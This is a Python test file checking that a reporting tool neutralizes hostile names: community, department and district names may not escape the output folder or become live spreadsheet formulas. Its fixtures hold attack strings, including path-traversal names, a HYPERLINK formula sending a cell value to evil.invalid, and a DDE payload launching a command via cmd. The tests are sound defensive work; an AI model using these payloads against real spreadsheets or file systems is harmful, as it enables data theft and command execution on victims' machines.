"""Issue 15, files: names from outside never steer a path, and no workbook cell is a live formula."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from intake.reports.digest import build_digest
from intake.reports.monthly import send_monthly_digests
from intake.reports.render import write_xlsx
from intake.reports.safety import FORMULA_STARTS, slug
from intake.reports.workbooks import build_ledger_workbook
from tests.fake_wechat_api import add_task, at, insert, notify_settings, running_services

EVIL_COMMUNITY = "x/../../../../escaped"
EVIL_DEPARTMENT = '=HYPERLINK("http://evil.invalid/?"&A1,"点此")'
EVIL_DISTRICT = "+cmd|' /C calc'!A0"


@pytest.fixture
async def services(tmp_path: Path, sqlite_url: str) -> Any:
    settings = notify_settings(sqlite_url, tmp_path / "site")
    district = settings.district.model_copy(update={"name": EVIL_DISTRICT})
    robots = settings.notify.model_copy(update={"heads": "wecom_robot", "admins": "wecom_robot"})  # charts drawn
    async with running_services(settings.model_copy(update={"districts": (district,), "notify": robots})) as services:
        evil = await insert(services.engine, "communities", name=EVIL_COMMUNITY, staff=5)
        plain = await insert(services.engine, "communities", name="@SUM(1+1)", staff=5)
        await insert(services.engine, "departments", name=EVIL_DEPARTMENT)
        for day in ("2026-11-03 10:00", "2026-11-04 10:00"):
            await add_task(services.engine, received_at=at(day), community_ids=[evil, plain],
                           due=dt.date(2026, 11, 20), department=EVIL_DEPARTMENT)
        yield services


def assert_no_formula(workbook: Any) -> int:
    """Every string cell is inert text; returns how many cells had to be quoted."""
    quoted = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.coordinate, cell.value)
                    quoted += cell.value.startswith("'")
    return quoted


async def test_the_ledger_workbook_quotes_department_community_and_district_names(services: Any) -> None:
    async with services.engine.connect() as conn:
        data = await build_ledger_workbook(conn, community="@SUM(1+1)", tz=ZoneInfo("Asia/Shanghai"),
                                           district=EVIL_DISTRICT)
    assert assert_no_formula(load_workbook(io.BytesIO(data))) >= 3  # the title and both department cells


async def test_the_digest_workbook_quotes_department_and_community_names(services: Any, tmp_path: Path) -> None:
    async with services.engine.connect() as conn:
        digest = await build_digest(conn, month="2026-11", community=None, settings=services.settings,
                                    now=dt.datetime(2027, 1, 10, tzinfo=dt.UTC))
    workbook = load_workbook(write_xlsx(digest, tmp_path / "digest.xlsx"))
    assert assert_no_formula(workbook) >= 2


async def test_a_community_name_cannot_write_outside_the_digest_folder(services: Any, tmp_path: Path) -> None:
    assert await send_monthly_digests(services, now=at("2026-12-01 08:07")) == 3
    folder = (services.settings.base_dir / services.settings.schedule.digest_dir).resolve()
    written = [p.resolve() for p in tmp_path.rglob("*.png")]
    assert len(written) == 3 and all(p.parent == folder for p in written), written


@pytest.mark.parametrize("name", ["x/../../etc", "..", ".hidden", "a\\b", "C:evil", "幸福社区", "", "社区 /\x00"])
def test_slug_keeps_names_inside_one_folder(name: str) -> None:
    cleaned = slug(name)
    assert cleaned and "/" not in cleaned and "\\" not in cleaned and not cleaned.startswith(".")
    assert Path(cleaned).name == cleaned and ".." not in cleaned and "\x00" not in cleaned
    assert slug("幸福社区") == "幸福社区" and slug("a/b") != slug("a_b")
